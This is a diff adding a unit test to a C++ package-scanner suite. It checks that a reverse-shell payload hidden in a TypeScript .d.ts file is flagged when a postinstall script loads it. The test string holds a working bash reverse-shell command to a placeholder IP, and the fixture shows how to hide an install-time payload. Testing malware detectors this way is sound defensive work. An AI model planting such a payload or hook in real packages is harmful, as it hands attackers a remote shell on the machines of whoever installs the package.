@@ -190,6 +190,24 @@ TEST(PackageScan, ConsoleScriptShadowing) {
   EXPECT_EQ(f->evidence, "pip");
 }
 
+TEST(PackageScan, DeferredDeclarationFileIsScannedWhenInstallCodeLoadsIt) {
+  // Type declarations are skipped in the first pass, but Node loads any file it is asked
+  // to require: a payload hidden in a .d.ts must still be found.
+  const std::string shell =
+      "require('child_process').exec('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1');\n";
+  TempTree loaded;
+  loaded.write("package.json",
+               R"({"name":"t","version":"1.0.0","scripts":{"postinstall":"node setup.js"}})");
+  loaded.write("setup.js", "require('./types/index.d.ts');\n");
+  loaded.write("types/index.d.ts", shell);
+  EXPECT_GE(max_severity(scan_dir(loaded)), Severity::kHigh);
+
+  TempTree unreferenced;
+  unreferenced.write("package.json", R"({"name":"t","version":"1.0.0"})");
+  unreferenced.write("types/index.d.ts", shell);
+  EXPECT_LT(max_severity(scan_dir(unreferenced)), Severity::kMedium);
+}
+
 TEST(PackageScan, DirectoryWithoutManifest) {
   TempTree t;
   t.write("notes.txt", "hello\n");
